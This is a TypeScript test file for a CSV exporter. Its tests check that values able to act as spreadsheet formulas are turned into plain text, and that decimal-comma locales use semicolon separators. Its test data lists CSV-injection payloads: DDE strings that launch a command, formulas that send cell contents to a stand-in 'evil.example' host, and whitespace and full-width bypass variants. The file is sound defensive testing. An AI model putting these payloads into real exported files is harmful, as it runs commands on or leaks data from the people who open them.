// What spreadsheets run when a file is opened: none of it gets out of the shop as a formula.
import { describe, expect, it } from 'vitest'
import { csvFormat, toCsv } from '@/domain/values/csv'

const cell = (text: string) =>
  toCsv([['before', text, 'after']]).slice('\uFEFFbefore,'.length, -',after\r\n'.length)

describe('a formula', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=1+1","=2+2',
    '="a"\r\n=2+2',
  ])('the formula %j becomes a text', (text) => {
    const written = cell(text)
    const value = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written
    expect(value).toBe(`'${text}`)
  })

  it('a formula cannot begin a cell or a row of its own', () => {
    const file = toCsv([['x",=1+1,"', 'y\r\n=1+1']])
    expect(file).toBe('\uFEFF"x"",=1+1,""","y\r\n=1+1"\r\n')
  })
})

it.each(['Nora', 'a=b', '1-2', 'me@example.com', 'Salma + Ali', ''])(
  'the plain text %j stays as it is',
  (text) => {
    expect(cell(text)).toBe(text)
  },
)

describe('a file for a language that writes a decimal comma', () => {
  it('a file for a decimal-comma language has semicolons between columns and commas in numbers', () => {
    const file = toCsv([['Néroli; doux', 1.5, { amount: 4790 }]], csvFormat('fr-FR'))
    expect(file).toBe('\uFEFF"Néroli; doux";1,5;47,90\r\n')
    expect(csvFormat('en-US')).toEqual({ separator: ',', decimal: '.' })
  })
})

it.each([
  ['0661000000', '"=""0661000000"""'],
  ['+212 661 00 00 00', '"=""+212 661 00 00 00"""'],
  ['+1+cmd|x', "'+1+cmd|x"],
  ['=1+1', "'=1+1"],
  ['', ''],
])('the digits %j are kept as a text, and run nothing', (digits, written) => {
  expect(toCsv([[{ digits }]])).toBe(`\uFEFF${written}\r\n`)
})
